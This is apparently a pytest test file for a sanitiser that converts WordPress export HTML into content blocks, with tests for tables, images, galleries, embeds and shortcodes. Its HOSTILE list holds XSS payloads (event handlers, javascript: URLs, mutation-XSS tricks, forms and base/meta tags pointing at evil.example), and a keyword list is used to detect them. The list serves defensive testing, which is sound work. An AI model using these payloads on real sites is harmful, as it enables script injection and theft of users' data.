"""From WordPress's HTML to blocks: nothing harmful and nothing from elsewhere comes along, and nothing goes silently."""

from __future__ import annotations

from typing import Any

import pytest

from sanduq_web.press.wxr.body import Body, Gallery, Picture, blocks_of

HOSTILE = [
    "<script>steal()</script>",
    '<img src=x onerror="steal()">',
    '<a href="javascript:steal()">x</a>',
    "<svg onload=steal()>",
    '<a href="data:text/html,steal()">x</a>',
    "<style>body{background:url(//evil.example/steal)}</style>",
    '<p style="background:url(//evil.example/steal)" onclick="steal()">x</p>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=steal()>",
    '<noscript><p title="</noscript><img src=x onerror=steal()>">',
    '<object data="//evil.example/steal.swf"></object>',
    "<!--><script>steal()</script>-->",
    '<form action="//evil.example/steal"><input name=p></form>',
    "<base href=//evil.example/steal>",
    '<meta http-equiv=refresh content="0;url=//evil.example/steal">',
    "<link rel=stylesheet href=//evil.example/steal>",
    '<embed type="linktype" linktype="page" id="steal">',
    '<a linktype="page" id="1" onclick="steal()">x</a>',
]
BAD = "<script onerror= onclick= onload= javascript: data: <style <svg <form <img linktype= <embed <meta <link <base".split()


def html_of(body: Body) -> str:
    return " ".join(str(value) for kind, value in body.blocks if kind == "paragraph")


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_html(hostile: str) -> None:
    for content in (hostile, f"<p>Before</p>{hostile}<p>After</p>", f"<blockquote><ul><li>{hostile}</li></ul></blockquote>"):
        found = html_of(blocks_of(content, "T")).lower()
        assert [bad for bad in BAD if bad in found] == [], content
    assert "Before" in html_of(blocks_of(f"<p>Before</p><div>{hostile}</div>", "T"))


def test_thousands_of_elements_within_each_other() -> None:
    assert "deep" in html_of(blocks_of("<div>" * 5000 + "deep" + "</div>" * 5000, "T"))


def one(content: str) -> tuple[str, Any]:
    body = blocks_of(content, "The title")
    assert len(body.blocks) == 1, body.blocks
    return body.blocks[0]


def test_classic_text_has_paragraphs_at_empty_lines() -> None:
    assert one("One <b>bold</b>\nline\n\nTwo") == ("paragraph", "<p>One <b>bold</b><br>line</p><p>Two</p>")


def test_blocks_of_the_editor_leave_no_traces() -> None:
    content = (
        '<!-- wp:paragraph {"align":"left"} -->\n<p>One</p>\n<!-- /wp:paragraph -->\n\n<!-- wp:latest-posts {"a":{"b":1}} /-->'
    )
    body = blocks_of(content, "T")
    assert body.blocks == [("paragraph", "<p>One</p>")]
    assert body.remarks == ["blocks that only WordPress can fill, taken out: latest-posts"]


def test_headings_lists_and_links() -> None:
    content = '<h2>Head</h2><h3>Small</h3><ul><li>a</li><li>b</li></ul><p><a href="https://a.example/">x</a></p><h5>Tiny</h5>'
    body = blocks_of(content, "T")
    assert body.blocks[0] == ("heading", "Head")
    assert body.blocks[1][1] == (
        '<h3>Small</h3><ul><li>a</li><li>b</li></ul><p><a href="https://a.example/">x</a></p><h4>Tiny</h4>'
    )


def test_quotations() -> None:
    assert one("<blockquote><p>Words</p><p>more</p><cite>— Somebody</cite></blockquote>") == (
        "quote",
        {"text": "Words\nmore", "source": "Somebody"},
    )
    kind, value = one('<blockquote><p>See <a href="https://a.example/">this</a></p></blockquote>')
    assert (kind, value.startswith("<blockquote>")) == ("paragraph", True)


def test_tables() -> None:
    body = blocks_of("<table><tr><th>a</th><th>b|c</th></tr><tr><td>1</td><td>2</td></tr></table>", "The title")
    assert body.blocks == [("table", {"caption": "The title", "rows": "a | b/c\n1 | 2"})]
    assert "without a caption" in body.remarks[0]
    assert one("<figure><table><tr><td>1</td></tr></table><figcaption>Said</figcaption></figure>")[1]["caption"] == "Said"


def test_pictures_with_captions_alone_and_among_words() -> None:
    image = '<img src="https://o.example/wp-content/uploads/a.jpg" alt="A" class="wp-image-7"/>'
    found = one(f"<figure>{image}<figcaption>C</figcaption></figure>")
    assert found == ("figure", Picture("https://o.example/wp-content/uploads/a.jpg", 7, "A", "C"))
    shortcode = '[caption id="x" width="3"]<a href="https://o.example/"><img src="a.jpg" alt="A" /></a> Said here[/caption]'
    assert one(shortcode) == ("figure", Picture("a.jpg", None, "A", "Said here"))
    kinds = [kind for kind, _ in blocks_of('<p>Words <img src="a.jpg" alt=""> go on</p>', "T").blocks]
    assert sorted(kinds) == ["figure", "paragraph"]


def test_galleries() -> None:
    assert one('[gallery ids="3,5" columns="2"]') == ("gallery", Gallery((3, 5)))
    assert one("[gallery]") == ("gallery", Gallery(()))


@pytest.mark.parametrize(
    "shown",
    [
        '<iframe src="https://video.example/1"></iframe>', "[embed]https://video.example/1[/embed]", "https://video.example/1",
        '<video controls src="https://video.example/1"></video>', '<audio><source src="https://video.example/1"></audio>',
        '<figure class="wp-block-embed"><div>\nhttps://video.example/1\n</div></figure>', '[video mp4="https://video.example/1"][/video]',
        "[audio https://video.example/1]",
    ],
)  # fmt: skip
def test_what_was_shown_from_elsewhere_is_a_link_and_said(shown: str) -> None:
    body = blocks_of(f"<p>Before</p>\n\n{shown}\n\n<p>After</p>", "T")
    assert '<a href="https://video.example/1">https://video.example/1</a>' in html_of(body)
    assert any("https://video.example/1" in remark for remark in body.remarks)
    assert "[" not in html_of(body)


def test_other_shortcodes_are_taken_out_and_said_but_brackets_stay() -> None:
    body = blocks_of('One [contact-form id="3" to="x"] two [box]inside[/box] three [sic] and [1].', "T")
    assert html_of(body) == "<p>One  two inside three [sic] and [1].</p>"
    assert body.remarks == [
        "shortcode [contact-form] taken out",
        "shortcode [box] taken out",
        "[sic] may be a shortcode; it stays in the text",
    ]


def test_scripts_and_forms_are_said() -> None:
    body = blocks_of('<p>x</p><script src="https://t.example/t.js"></script><form><input></form>', "T")
    assert body.remarks == ["script taken out: https://t.example/t.js", "form taken out"]
